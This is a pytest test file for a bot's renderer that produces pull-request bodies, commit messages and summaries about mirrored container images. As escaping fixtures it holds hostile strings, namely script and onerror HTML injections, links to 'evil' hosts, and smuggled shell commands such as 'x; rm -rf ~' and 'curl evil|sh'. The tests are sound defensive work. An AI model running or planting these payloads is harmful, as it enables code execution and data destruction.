from __future__ import annotations

import html
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from bot import render
from bot.errors import ConfigError
from bot.plan import Occurrence
from bot.report import MovedImage, NotMoved, PullWindow, RunReport
from bot.scan.model import Skipped
from tests.render.reports import DEST, NGINX_DIGEST, typical_report

GOLDEN = Path(__file__).parent / "render"


def golden(name: str) -> str:
    return (GOLDEN / name).read_text(encoding="utf-8")


def image(source: str, occurrences: tuple[Occurrence, ...] = (), **changes) -> MovedImage:
    fields = dict(
        source=source,
        target=f"{DEST}/{source}",
        digest=NGINX_DIGEST,
        platforms=("linux/amd64",),
        status="copied",
        pulls=None,
        repository_pulls=None,
        occurrences=occurrences or (Occurrence("Dockerfile", 1, 6),),
    )
    fields.update(changes)
    return MovedImage(**fields)


def report(moved=(), not_moved=(), **changes) -> RunReport:
    fields = dict(
        repository="acme/shop",
        destination=DEST,
        base="main",
        branch="rehome/mirror-images",
        moved=tuple(moved),
        not_moved=tuple(not_moved),
        files_changed=("Dockerfile",),
    )
    fields.update(changes)
    return RunReport(**fields)


# --- whole outputs --------------------------------------------------------------------------------


def test_typical_body():
    assert render.render_body(typical_report()) == golden("typical_body.md")


def test_dry_run_body_says_so():
    body = render.render_body(typical_report(dry_run=True))
    assert body == golden("dry_run_body.md")
    assert body.startswith("> **Dry run.**")


def test_a_dry_run_that_would_change_nothing_says_no_pull_request_would_open():
    body = render.render_body(report(not_moved=[NotMoved("Dockerfile", 1, 6, "${BASE}", "unresolved", "a variable")],
                                     files_changed=(), dry_run=True))
    assert body == (
        "> **Dry run.** Nothing was copied, committed or pushed, and nothing would change: rehome would open no "
        f"pull request.\n\nNo image moved to `{DEST}`.\n\n## Not moved\n\n1 reference stays as it is:\n\n"
        "### Unresolved (a variable, template or parameter) (1)\n\n"
        "| Where | Reference | Why |\n|---|---|---|\n| `Dockerfile:1` | `${BASE}` | a variable |\n")


def test_body_with_nothing_left_behind():
    assert render.render_body(typical_report(not_moved=False)) == golden("all_moved_body.md")


def test_files_not_read_are_listed_not_claimed_moved():
    body = render.render_body(report([image("docker.io/library/nginx:1.27")], skipped=(
        Skipped("Dockerfile", "not UTF-8 (byte 0xe9 at offset 27)"), Skipped("vendor/pod.yaml", "not valid YAML: `x`"))))
    assert body.split("## Not moved\n\n")[1].split("\n## How to verify")[0] == (
        "Every image reference found was moved.\n\n"
        "### Files not read (2)\n\n"
        "2 files could not be read, so they were not searched for images: whatever they name stay as written.\n\n"
        "| File | Why it was not read |\n|---|---|\n"
        "| `Dockerfile` | not UTF\\-8 \\(byte 0xe9 at offset 27\\) |\n"
        "| `vendor/pod.yaml` | not valid YAML\\: \\`x\\` |\n"
    )
    one = render.render_body(report(not_moved=[NotMoved("Dockerfile", 1, 6, "${BASE}", "unresolved", "a variable")],
                                    skipped=(Skipped("a.yaml", "binary file"),)))
    assert one.split("## Not moved\n\n")[1].split("\n## How to verify")[0] == (
        "1 reference stays as it is:\n\n### Unresolved (a variable, template or parameter) (1)\n\n"
        "| Where | Reference | Why |\n|---|---|---|\n| `Dockerfile:1` | `${BASE}` | a variable |\n\n"
        "### Files not read (1)\n\n"
        "1 file could not be read, so it was not searched for images: whatever it names stays as written.\n\n"
        "| File | Why it was not read |\n|---|---|\n| `a.yaml` | binary file |\n"
    )


def test_step_summary_is_the_body_under_a_heading():
    summary = render.render_step_summary(typical_report())
    assert summary == golden("typical_summary.md")
    assert summary == "# rehome: acme/shop\n\n" + golden("typical_body.md")


def test_commit_message():
    assert render.render_commit_message(typical_report()) == golden("typical_commit.txt")
    assert render.render_commit_message(typical_report(dry_run=True)) == golden("dry_run_commit.txt")


def test_titles():
    assert render.render_title(typical_report()) == f"Move 3 container images to {DEST}"
    assert render.render_title(report([image("docker.io/library/nginx:1.27")])) == (
        f"Move 1 container image to {DEST}"
    )
    assert render.render_title(report()) == f"Move 0 container images to {DEST}"


def test_unknown_pulls_are_a_dash_and_zero_is_zero():
    body = render.render_body(
        report([image("docker.io/library/a:1"), image("docker.io/library/b:1", pulls=0, repository_pulls=0)])
    )
    assert "| linux/amd64 | — | `Dockerfile:1` |" in body
    assert "| linux/amd64 | 0 | `Dockerfile:1` |" in body
    assert "Pulls: not counted" in body


def test_commit_message_has_no_trailers():
    message = render.render_commit_message(
        report([image("localhost:5000/app:1"), image("registry:5000/tool:2")])
    )
    parsed = subprocess.run(
        ["git", "interpret-trailers", "--parse"], input=message, capture_output=True, text=True, check=True
    )
    assert parsed.stdout == ""
    assert "Co-authored-by" not in message
    assert message.splitlines()[:4] == [
        f"Move 2 container images to {DEST}",
        "",
        f"localhost:5000/app:1 -> {DEST}/localhost:5000/app:1",
        f"registry:5000/tool:2 -> {DEST}/registry:5000/tool:2",
    ]


# --- escaping ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("deploy/web.yaml", "`deploy/web.yaml`"),
        ("a`b", "``a`b``"),
        ("``x", "``` ``x ```"),
        ("a|b", "`a\\|b`"),
        ("a\\|b", "`a\\\\|b`"),
        ("line\nbreak", "`line\\nbreak`"),
        ("\u2028", "`\\u2028`"),
        (" padded ", "`  padded  `"),
        ("", ""),
    ],
)
def test_code_span(text, expected):
    assert render.code_span(text) == expected


def test_code_span_outside_tables_keeps_pipes():
    assert render.code_span("a|b", table=False) == "`a|b`"


def test_markdown_text():
    assert render.markdown_text("see [x](https://evil) @evil <b>&") == (
        "see \\[x\\]\\(https\\://evil\\) @\u200bevil &lt;b&gt;&amp;"
    )
    assert render.markdown_text("a\nb\r\nc") == "a b c"


def test_shell_word_and_fence():
    assert render.shell_word("docker.io/library/nginx:1.27") == "docker.io/library/nginx:1.27"
    assert render.shell_word("x; rm -rf ~") == "'x; rm -rf ~'"
    assert render.fenced("a ```` b", "sh") == "`````sh\na ```` b\n`````"


HOSTILE_PATHS = (
    "deploy/<img src=x onerror=alert(1)>.yaml",
    "a|b.yaml",
    "x\\|y.yaml",
    "docs/[x](https://evil).yaml",
    "</details><script>alert(1)</script>.yaml",
    "@evil/@org/team.yaml",
    "tick`s``.yaml",
)
HOSTILE_RAWS = (
    "@evil",
    "[x](https://evil)",
    "![img](https://evil/i.png)",
    "`code` ``more``",
    "nginx:1|2",
    "<b>bold</b>",
    "www.evil.com",
)
HOSTILE_REASONS = (
    "variable @evil is not set\nsee [x](https://evil)",
    "ping @org/team | and <img src=x> `tick` https://evil.example www.evil.com a@b.example",
    "</details>\n\n# heading\n| a | b |",
)


def hostile_report() -> RunReport:
    moved = [
        image(
            f"docker.io/library/img{n}:1",
            occurrences=tuple(Occurrence(path, n + 1, 1) for path in HOSTILE_PATHS),
            platforms=("linux/amd64", "<i>os</i>/@arch"),
        )
        for n in range(3)
    ]
    not_moved = [
        NotMoved(path, line, 1, raw, category, reason)
        for line, (path, raw, reason, category) in enumerate(
            zip(
                HOSTILE_PATHS * 3,
                HOSTILE_RAWS * 3,
                HOSTILE_REASONS * 7,
                ("unresolved", "failed", "weird|category") * 7,
            ),
            start=1,
        )
    ]
    return report(
        moved,
        not_moved,
        repository="acme/@evil <b>",
        pull_window=PullWindow("[logs](https://evil) @evil", "2026-10-27", None),
    )


SAFE_TAGS = {
    "p", "strong", "h1", "h2", "h3", "table", "thead", "tbody", "tr", "th", "td",
    "code", "pre", "details", "summary", "br", "blockquote",
}
OWN_HTML = re.compile(r"</?(details|summary)>|<br>|<code title=\"[^\"<>]*\">|</code>")


def without_code_spans(markdown: str) -> str:
    """The text outside code spans and fenced blocks, as CommonMark pairs backtick runs."""
    markdown = re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", markdown, flags=re.M | re.S)
    out, position = [], 0
    for run in re.finditer(r"`+", markdown):
        if run.start() < position:
            continue
        closing = re.compile(rf"(?<!`){run.group(0)}(?!`)").search(markdown, run.end())
        if closing is None:
            continue
        out.append(markdown[position : run.start()])
        position = closing.end()
    out.append(markdown[position:])
    return "".join(out)


def table_cells(row: str) -> list[str]:
    """A table row split as GitHub splits it: a pipe right after a backslash is not a delimiter."""
    return re.split(r"(?<!\\)\|", row.strip()[1:-1])


def assert_tables_intact(markdown: str) -> None:
    columns = None
    for line in markdown.splitlines():
        if not line.startswith("|"):
            columns = None
            continue
        assert line.endswith("|"), line
        cells = table_cells(line)
        if columns is None:
            columns = len(cells)
        assert len(cells) == columns, line


class TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple]] = []
        self.end_tags: list[str] = []
        self.text_outside_code: list[str] = []
        self.code_depth = 0

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        if tag in ("code", "pre"):
            self.code_depth += 1

    def handle_endtag(self, tag):
        self.end_tags.append(tag)
        if tag in ("code", "pre"):
            self.code_depth -= 1

    def handle_data(self, data):
        if not self.code_depth:
            self.text_outside_code.append(data)


def rendered_html(markdown: str) -> TagCollector:
    collector = TagCollector()
    collector.feed(MarkdownIt("commonmark").enable("table").render(markdown))
    return collector


@pytest.mark.parametrize("render_text", [render.render_body, render.render_step_summary])
def test_hostile_repository_renders_harmlessly(render_text):
    body = render_text(hostile_report())

    outside = OWN_HTML.sub("", without_code_spans(body))
    assert "<" not in outside and ">" not in outside
    assert "](" not in outside
    assert not re.search(r"@[A-Za-z0-9]", outside)
    assert "https://" not in outside and "www.evil" not in outside
    assert_tables_intact(body)
    assert "### weird\\|category (7)\n" in body

    page = rendered_html(body)
    assert {tag for tag, _ in page.tags} <= SAFE_TAGS
    assert {attrs for _, attrs in page.tags} <= {(), ("title",), ("class",)}
    assert [t for t, _ in page.tags].count("details") == page.end_tags.count("details") == 3
    assert not re.search(r"@[A-Za-z0-9]", "".join(page.text_outside_code))

    html_text = MarkdownIt("commonmark").enable("table").render(body)
    for path in HOSTILE_PATHS:
        assert f"<code>{html.escape(path, quote=False)}:1</code>" in html_text
    for raw in HOSTILE_RAWS:
        assert f"<code>{html.escape(raw, quote=False)}</code>" in html_text


def test_hostile_commit_message_and_title_stay_on_their_lines():
    hostile = report([image("docker.io/library/a:1", target="x\ny")], destination="d\nest")
    assert render.render_title(hostile) == "Move 1 container image to d\\nest"
    assert render.render_commit_message(hostile).splitlines()[2] == "docker.io/library/a:1 -> x\\ny"


def test_verify_commands_quote_what_they_paste():
    body = render.render_body(report([image("docker.io/library/a:1", target="m/a:1; curl evil|sh")]))
    assert "compare docker.io/library/a:1 'm/a:1; curl evil|sh'\n" in body


# --- long lists ------------------------------------------------------------------------------------


def test_more_than_ten_rows_collapse():
    ten = render.render_body(report([image(f"docker.io/library/i{n}:1") for n in range(10)]))
    eleven = render.render_body(report([image(f"docker.io/library/i{n}:1") for n in range(11)]))
    assert "<details><summary>All 10 images" not in ten
    assert "<details><summary>All 11 images</summary>\n\n| Image (from) |" in eleven
    assert "<details><summary>Commands for 11 images</summary>\n\n```sh\n" in eleven
    assert_tables_intact(eleven)


def test_more_than_five_places_collapse():
    five = tuple(Occurrence(f"f{n}.yaml", n, 1) for n in range(5))
    six = five + (Occurrence("f0.yaml", 9, 1),)
    assert "<details>" not in render.render_body(report([image("docker.io/library/a:1", five)]))
    body = render.render_body(report([image("docker.io/library/a:1", six)]))
    assert "<details><summary>6 places in 5 files</summary>`f0.yaml:0`<br>`f0.yaml:9`<br>" in body


def test_huge_report_stays_under_githubs_limit():
    moved = [
        image(
            f"docker.io/acme/service-{n:05}:1.0.{n}",
            occurrences=tuple(Occurrence(f"deploy/env-{e}/service-{n:05}.yaml", 10 + e, 16) for e in range(8)),
            pulls=n,
        )
        for n in range(3000)
    ]
    not_moved = [
        NotMoved(f"charts/app-{n:05}/values.yaml", n, 3, f"${{IMAGE_{n}}}", "unresolved", "variable has no default")
        for n in range(4000)
    ]
    skipped = tuple(Skipped(f"vendor/manifest-{n:05}.yaml", "not valid YAML: expected <block end>") for n in range(2000))
    big = report(moved, not_moved, files_changed=tuple(f"f{n}" for n in range(24000)), skipped=skipped)

    body = render.render_body(big)
    assert len(body.encode("utf-8")) < 65_536
    assert "**3,000 images** from 1 registry" in body
    assert "in 24,000 files" in body
    assert "| `docker.io/acme/service-00000:1.0.0` |" in body
    assert "\ncompare docker.io/acme/service-00000:1.0.0 " in body
    assert "… and 2,9" in body and "more images, not listed here" in body
    assert "4,000 references stay as they are" in body
    assert "### Unresolved (a variable, template or parameter) (4000)" in body
    assert "more references, not listed here" in body
    assert "### Files not read (2000)" in body and "more files, not listed here" in body
    assert_tables_intact(body)
    assert body.count("<details>") == body.count("</details>")

    summary = render.render_step_summary(big)
    assert len(summary.encode("utf-8")) < render.MAX_SUMMARY_SIZE
    assert len(summary) > len(body)


# --- template overrides and errors ----------------------------------------------------------------


def test_user_directory_overrides_one_template(tmp_path):
    (tmp_path / "pr_title.j2").write_text("[mirror] {{ moved_count }} images for {{ repository }}\n")
    assert render.render_title(typical_report(), tmp_path) == "[mirror] 3 images for acme/shop"
    assert render.render_body(typical_report(), tmp_path) == golden("typical_body.md")
    assert render.render_commit_message(typical_report(), str(tmp_path)) == golden("typical_commit.txt")


def test_user_body_can_reuse_the_built_in_parts(tmp_path):
    (tmp_path / "pr_body.md.j2").write_text(
        '{% import "_macros.md.j2" as m with context %}\n'
        "Mirrored for the platform team.\n\n"
        "{{ m.images_table(images) }}\n"
    )
    body = render.render_body(typical_report(), tmp_path)
    assert body.startswith("Mirrored for the platform team.\n\n| Image (from) |")
    summary = render.render_step_summary(typical_report(), tmp_path)
    assert summary.startswith("# rehome: acme/shop\n\nMirrored for the platform team.\n")


def test_missing_template_directory(tmp_path):
    with pytest.raises(ConfigError, match="templates directory .*nowhere does not exist"):
        render.render_body(typical_report(), tmp_path / "nowhere")


def test_syntax_error_names_file_and_line(tmp_path):
    (tmp_path / "pr_title.j2").write_text("Move\n{{ moved_count \n")
    with pytest.raises(ConfigError, match=r"pr_title\.j2:2: template syntax error"):
        render.render_title(typical_report(), tmp_path)


def test_undefined_variable_names_file_and_line(tmp_path):
    (tmp_path / "commit_message.j2").write_text("Move\n\n{{ no_such_thing }}\n")
    with pytest.raises(ConfigError, match=r"commit_message\.j2:3: template error: 'no_such_thing' is undefined"):
        render.render_commit_message(typical_report(), tmp_path)


def test_python_error_in_a_user_template_names_file_and_line(tmp_path):
    (tmp_path / "pr_title.j2").write_text('{{ moved_count + "x" }}\n')
    with pytest.raises(ConfigError, match=r"pr_title\.j2:1: template error: TypeError: unsupported operand"):
        render.render_title(typical_report(), tmp_path)


def test_missing_included_template(tmp_path):
    (tmp_path / "step_summary.md.j2").write_text('{% include "nope.md.j2" %}\n')
    with pytest.raises(ConfigError, match=r"template nope\.md\.j2 not found \(needed while rendering step_summary"):
        render.render_step_summary(typical_report(), tmp_path)


def test_built_in_templates_are_found():
    names = {p.name for p in render.data_dir("templates").glob("*.j2")}
    assert {render.TITLE_TEMPLATE, render.BODY_TEMPLATE, render.COMMIT_TEMPLATE, render.SUMMARY_TEMPLATE} <= names
